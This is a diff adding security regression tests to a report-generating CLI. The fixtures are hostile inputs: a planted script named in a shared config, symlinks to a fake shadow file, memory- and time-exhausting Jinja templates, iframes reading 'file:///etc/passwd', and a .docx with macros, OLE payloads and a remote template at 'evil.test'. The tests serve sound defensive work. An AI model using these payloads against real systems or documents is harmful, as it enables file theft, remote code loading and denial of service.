@@ -732,3 +732,294 @@ def test_a_weekly_killed_in_its_first_run_leaves_files_the_rerun_knows(tmp_path:
     again = subprocess.run([sys.executable, "-m", "ftz_cli", *args], capture_output=True, text=True,
                            timeout=120)
     assert again.returncode == 0 and "E408" not in again.stderr, again.stderr
+
+
+# a setting that names a program is the user's, never the shared workspace's
+
+def test_a_browser_named_in_a_shared_ftz_yaml_is_refused(ftz, ws: Path, tmp_path: Path) -> None:
+    script = tmp_path / "evil.sh"
+    script.write_text("#!/bin/sh\ntouch PWNED\n", encoding="utf-8")
+    script.chmod(0o755)
+    (ws / "ftz.yaml").write_text(f"report:\n  browser: {script}\n", encoding="utf-8")
+    for args in (["validate"], ["report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.pdf")]):
+        result = ftz("--data", str(ws), *args)
+        clean(result)
+        assert result.exit_code == 1 and "ftz.yaml:2:3: 错误 E020" in result.stderr, result.stderr
+        assert "FTZ_BROWSER" in result.stderr
+    assert not (tmp_path / "PWNED").exists() and not (tmp_path / "简报.pdf").exists()
+
+
+def test_the_users_own_settings_may_name_the_browser(ftz, ws: Path, tmp_path: Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    config = tmp_path / "mine" / "config.yaml"
+    config.parent.mkdir()
+    config.write_text(f"browser: {tmp_path / 'no-such-browser'}\n", encoding="utf-8")
+    monkeypatch.setenv("FTZ_CONFIG", str(config))
+    monkeypatch.delenv("FTZ_BROWSER", raising=False)
+    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.pdf"))
+    clean(result)
+    assert result.exit_code == 1 and "E462" in result.stderr and str(config) in result.stderr
+    config.write_text("browser: [1, 2]\n", encoding="utf-8")
+    wrong = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.pdf"))
+    clean(wrong)
+    assert wrong.exit_code == 1 and str(config) in wrong.stderr
+
+
+# templates named in ftz.yaml are data: no file outside their folder, bounded work
+
+def _templates(ws: Path, body: str) -> None:
+    (ws / "mine").mkdir(exist_ok=True)
+    (ws / "mine" / "report.md.j2").write_text(body, encoding="utf-8")
+    (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")
+
+
+def test_a_template_symlink_leaving_its_folder_is_not_read(ftz, ws: Path, tmp_path: Path) -> None:
+    secret = tmp_path / "shadow"
+    secret.write_text("root:SECRET-HASH\n", encoding="utf-8")
+    _templates(ws, "{% include 'secret.j2' %}\n")
+    (ws / "mine" / "secret.j2").symlink_to(secret)
+    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
+    clean(result)
+    assert result.exit_code == 1 and "E471" in result.stderr and "SECRET" not in result.stdout
+    (ws / "mine" / "report.md.j2").unlink()
+    (ws / "mine" / "report.md.j2").symlink_to(secret)  # the page itself
+    again = ftz("--data", str(ws), "report", "--as-of", AS_OF)
+    assert again.exit_code == 1 and "E471" in again.stderr and "SECRET" not in again.stdout
+    (ws / "mine" / "report.md.j2").unlink()
+    (ws / "mine" / "report.md.j2").write_text("{% include 'part.j2' %}\n", encoding="utf-8")
+    (ws / "mine" / "part.j2").write_text("自定义\n", encoding="utf-8")
+    (ws / "mine" / "inside.j2").symlink_to(ws / "mine" / "part.j2")  # inside the folder: fine
+    assert ftz("--data", str(ws), "report", "--as-of", AS_OF).stdout == "自定义\n"
+
+
+@pytest.mark.parametrize("body", [
+    "{{ 'a' * 10000000000 }}", "{{ 'a' | center(10000000000) }}", "{{ '{:>9999999999}'.format(1) }}",
+    "{{ 7 ** 999999999 }}", "{{ '%9999999999s' | format(1) }}",
+    "{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}",
+    "{% set a = 'x' * 999999 %}{% set b = a ~ a ~ a ~ a %}{% set c = b ~ b ~ b ~ b %}{% set d = c ~ c ~ c ~ c %}"
+    "{% set e = d ~ d ~ d ~ d %}{% set f = e ~ e ~ e ~ e %}{% set g = f ~ f ~ f ~ f %}{{ g | length }}",
+    "{% for a in range(100000) %}{% for b in range(100000) %}{{ loop.index }}{% endfor %}{% endfor %}",
+])
+def test_a_template_that_would_exhaust_the_machine_is_stopped(ws: Path, tmp_path: Path, body: str) -> None:
+    """In a subprocess under a 3 GiB address-space limit: a failure here is not an OOM kill."""
+    import subprocess
+    import sys
+
+    _templates(ws, body + "\n")
+    limited = ("import resource, sys\n"
+               "resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"
+               "import ftz_cli.views.sandbox as s\n"
+               "s.MAX_SECONDS = 5.0\n"
+               "from ftz_cli.cli.main import main\n"
+               "sys.argv = ['ftz', *sys.argv[1:]]\n"
+               "main()\n")
+    done = subprocess.run([sys.executable, "-c", limited, "--data", str(ws), "report", "--as-of", AS_OF],
+                          capture_output=True, text=True, timeout=120)
+    assert done.returncode == 1 and "E470" in done.stderr, done.stderr[-2000:]
+    assert "report.md.j2" in done.stderr and "Traceback" not in done.stderr and "内部错误" not in done.stderr
+
+
+def test_nested_loops_that_print_nothing_stop_at_the_time_limit(ftz, ws: Path,
+                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("ftz_cli.views.sandbox.MAX_SECONDS", 1.0)
+    _templates(ws, "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}\n")
+    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
+    clean(result)
+    assert result.exit_code == 1 and "E470" in result.stderr and "秒" in result.stderr
+
+
+def test_a_users_template_still_renders_within_the_limits(ftz, ws: Path) -> None:
+    _templates(ws, "{% for i in range(3) %}{{ '-' * 10 }}{{ title }}{% endfor %}\n")
+    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.count("----------义乌自贸区建设推进情况简报") == 3
+
+
+@pytest.mark.parametrize("templates", [False, True])
+def test_every_html_page_carries_a_policy_that_loads_nothing(ftz, ws: Path, tmp_path: Path,
+                                                            templates: bool) -> None:
+    from ftz_cli.views.templating import CSP
+
+    if templates:  # a colleague's page that tries to load before its <head>
+        (ws / "mine").mkdir()
+        (ws / "mine" / "report.html.j2").write_text(
+            '<html data-x=">"><img src="http://127.0.0.1:9/x.png"><head></head><body>'
+            '<iframe src="file:///etc/passwd"></iframe></body></html>\n', encoding="utf-8")
+        (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")
+    out = tmp_path / "wk"
+    assert ftz("--data", str(ws), "weekly", "--from", "2021-04-01", "--to", "2021-04-07", "--out", str(out),
+               "-f", "html").exit_code == 0
+    pages = [ftz("--data", str(ws), "report", "--as-of", AS_OF, "-f", "html").stdout,
+             *(p.read_text(encoding="utf-8") for p in out.glob("*.html"))]
+    for page in pages:
+        head = page.split("<img", 1)[0].split("<body", 1)[0]
+        assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in head, page[:300]
+    assert "default-src 'none'" in CSP and "img-src data:" in CSP and "script-src" not in CSP
+
+
+def test_a_printed_brief_fetches_and_embeds_nothing(ftz, ws: Path, tmp_path: Path) -> None:
+    """A colleague's HTML template asks for a local file and a URL; the PDF has neither."""
+    import http.server
+    import shutil as sh
+    import subprocess
+    import threading
+
+    if not (sh.which("chromium") and sh.which("pdftotext")):
+        pytest.skip("needs chromium and pdftotext")
+    hits: list[str] = []
+
+    class Spy(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b"FETCHED-FROM-NETWORK")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Spy)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    secret = tmp_path / "secret.txt"
+    secret.write_text("LOCAL-SECRET-TEXT\n", encoding="utf-8")
+    port = server.server_address[1]
+    (ws / "mine").mkdir()
+    (ws / "mine" / "report.html.j2").write_text(
+        f'<html><body><p>正文</p><img src="http://127.0.0.1:{port}/img.png">'
+        f'<iframe src="{secret.as_uri()}"></iframe><iframe src="http://127.0.0.1:{port}/frame"></iframe>'
+        f'<link rel="stylesheet" href="http://127.0.0.1:{port}/s.css"><script>document.write("SCRIPT-RAN")</script>'
+        "</body></html>\n", encoding="utf-8")
+    (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")
+    pdf = tmp_path / "简报.pdf"
+    try:
+        result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(pdf))
+    finally:
+        server.shutdown()
+    assert result.exit_code == 0, result.stderr
+    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+    assert "正文" in text and "LOCAL-SECRET" not in text and "FETCHED" not in text and "SCRIPT-RAN" not in text
+    assert hits == []
+
+
+def _reference(tmp_path: Path, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> Path:
+    """The bundled reference document with hostile parts added."""
+    import zipfile
+
+    from ftz_cli.core.resources import bundled
+
+    out = tmp_path / "office.docx"
+    with zipfile.ZipFile(bundled("templates") / "reference.docx") as source, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for name in source.namelist():
+            target.writestr(name, (replace or {}).get(name, source.read(name)))
+        for name, body in extra.items():
+            target.writestr(name, body)
+    return out
+
+
+_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def test_a_reference_document_gives_only_styles_and_page_set_up(ftz, ws: Path, tmp_path: Path) -> None:
+    import zipfile
+
+    from ftz_cli.core.resources import bundled
+
+    with zipfile.ZipFile(bundled("templates") / "reference.docx") as source:
+        rels = source.read("word/_rels/document.xml.rels")
+        settings = source.read("word/settings.xml")
+    hostile = _reference(tmp_path, {
+        "word/vbaProject.bin": b"MACRO-CODE" * 100,
+        "word/embeddings/oleObject1.bin": b"OLE-PAYLOAD" * 100,
+        "word/_rels/settings.xml.rels": _RELS + (
+            f'<Relationship Id="rT" Type="{_REL}attachedTemplate" Target="http://evil.test/t.dotm" '
+            'TargetMode="External"/></Relationships>').encode(),
+        "customXml/huge.xml": b"\0" * (200 << 20),  # 200 MiB unpacked: dropped, never read
+    }, {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", (
+        f'<Relationship Id="rO" Type="{_REL}oleObject" Target="file:///etc/passwd" TargetMode="External"/>'
+        f'<Relationship Id="rE" Type="{_REL}oleObject" Target="embeddings/oleObject1.bin"/>'
+        f'<Relationship Id="rV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        'Target="vbaProject.bin"/>'
+        f'<Relationship Id="rI" Type="{_REL}image" Target="http://evil.test/x.png" TargetMode="External"/>'
+        "</Relationships>").encode()),
+        "word/settings.xml": settings.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rT"/></w:settings>')})
+    assert hostile.stat().st_size < 2 << 20
+    out = tmp_path / "简报.docx"
+    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(out), "--reference-doc", str(hostile))
+    assert result.exit_code == 0, result.stderr
+    with zipfile.ZipFile(out) as brief:
+        names = brief.namelist()
+        everything = b"".join(brief.read(n) for n in names)
+    assert not [n for n in names if "vba" in n.lower() or "embeddings" in n or "customXml" in n], names
+    for needle in (b"evil.test", b"file:///", b"External", b"attachedTemplate", b"MACRO", b"OLE-PAYLOAD"):
+        assert needle not in everything, needle
+    assert out.stat().st_size < 2 << 20
+    import docx
+
+    assert docx.Document(str(out)).sections[0].left_margin == 1587 * 635  # the reference's page set-up
+
+
+def test_a_reference_document_too_big_to_carry_is_refused(ftz, ws: Path, tmp_path: Path) -> None:
+    hostile = _reference(tmp_path, {"word/media/image1.png": b"\0" * (100 << 20)})
+    out = tmp_path / "简报.docx"
+    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(out), "--reference-doc", str(hostile))
+    clean(result)
+    assert result.exit_code == 1 and "E464" in result.stderr and "MB" in result.stderr and not out.exists()
+
+
+# nothing from a cache runs code unless it is this user's alone
+
+def _compiled(folder: Path) -> tuple[object, object]:
+    import jinja2
+
+    from ftz_cli.views.template_files import PrivateBytecodeCache
+
+    cache = PrivateBytecodeCache(folder)
+    env = jinja2.Environment(loader=jinja2.DictLoader({"t.j2": "hello"}), bytecode_cache=cache)
+    env.get_template("t.j2")  # compiled and dumped
+    bucket = cache.get_bucket(env, "t.j2", None, "hello")
+    return cache, bucket
+
+
+@pytest.mark.parametrize("attack", ["group-writable folder", "foreign entry", "symlinked folder",
+                                    "foreign folder", "fifo entry"])
+def test_a_compiled_template_is_loaded_only_from_the_users_own_folder(tmp_path: Path, attack: str) -> None:
+    import os
+
+    if os.geteuid() != 0 and attack.startswith("foreign"):
+        pytest.skip("giving a file to another user needs root")
+    folder = tmp_path / "bytecode"
+    folder.mkdir(mode=0o700)
+    cache, bucket = _compiled(folder)
+    assert bucket.code is not None  # the user's own folder: used
+    [entry] = list(folder.iterdir())
+    if attack == "group-writable folder":
+        folder.chmod(0o777)
+    elif attack == "foreign entry":
+        os.chown(entry, 65534, 65534)
+    elif attack == "foreign folder":
+        os.chown(folder, 65534, 65534)
+    elif attack == "fifo entry":
+        entry.unlink()
+        os.mkfifo(entry)
+    else:
+        real = tmp_path / "elsewhere"
+        folder.rename(real)
+        folder.symlink_to(real)
+    bucket.reset()
+    cache.load_bytecode(bucket)
+    assert bucket.code is None
+
+
+def test_a_team_writable_cache_folder_is_not_where_entries_go(ftz, ws: Path, tmp_path: Path,
+                                                              monkeypatch: pytest.MonkeyPatch) -> None:
+    shared = tmp_path / "team"
+    shared.mkdir()
+    shared.chmod(0o777)
+    monkeypatch.setenv("FTZ_CACHE_DIR", str(shared))
+    _templates(ws, "{{ title }}\n")
+    assert ftz("--data", str(ws), "report", "--as-of", AS_OF).exit_code == 0
+    for path in shared.rglob("*"):
+        if path.is_dir():
+            assert not path.stat().st_mode & 0o022, path  # nothing another user could swap or write
